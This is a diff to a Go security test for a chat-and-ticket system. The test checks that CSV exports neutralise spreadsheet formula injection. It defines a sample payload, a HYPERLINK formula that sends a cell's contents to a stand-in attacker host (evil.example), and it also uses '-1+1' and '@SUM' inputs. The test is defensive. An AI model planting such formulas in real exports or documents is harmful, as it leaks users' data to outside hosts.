@@ -108,15 +108,11 @@ func TestSecurityCSVFormulaInjection(t *testing.T) {
 	s := startJourneyServer(t, dsn, nil, nil)
 	const evil = `=HYPERLINK("http://evil.example/?x="&C2,"点击")`
 	// As in the finding: the formula, then 转人工 (the ticket's summary and description are the formula).
-	sess := s.session()
-	s.say(sess, nil, evil)
-	r := s.say(sess, nil, "转人工")
-	no := ticketNo.FindString(r[len(r)-1].Text)
-	if no == "" {
-		t.Fatalf("no ticket number in %+v", r)
-	}
+	sess, no := handoff(t, s.e2eServer, evil)
+	r := []reply{s.poll(sess, 0, no)}
 	s.cli("claim", no)
-	s.cli("resolve", no, "-1+1 更换电机")
+	s.cli("reply", no, "您好，马上处理")
+	s.cli("resolve", no, "--", "-1+1 更换电机") // text that begins with "-" goes after --
 	ask := s.poll(sess, r[len(r)-1].ID, no)
 	r = s.say(sess, []reply{ask}, "!已解决")
 	r = s.say(sess, r, "!4")
@@ -171,6 +167,26 @@ func TestSecurityCSVFormulaInjection(t *testing.T) {
 	}
 	checkNoFormula(t, "console CSV", rows, "HYPERLINK")
 	checkNoFormula(t, "console CSV", rows, "@SUM(1+1)")
+}
+
+// handoff is a web chat customer who says first, then asks for a person (转人工), skipping the
+// optional questions; it returns the session and the ticket number.
+func handoff(t *testing.T, s *e2eServer, first string) (string, string) {
+	t.Helper()
+	sess := s.session()
+	s.say(sess, nil, first)
+	r := s.say(sess, nil, "转人工")
+	for i := 0; i < 3 && ticketNo.FindString(r[len(r)-1].Text) == ""; i++ {
+		if !hasButton(r, "跳过") {
+			t.Fatalf("no ticket and nothing to skip in %+v", r)
+		}
+		r = s.say(sess, r, "!跳过")
+	}
+	no := ticketNo.FindString(r[len(r)-1].Text)
+	if no == "" {
+		t.Fatalf("no ticket number in %+v", r)
+	}
+	return sess, no
 }
 
 func readCSV(t *testing.T, s string) [][]string {
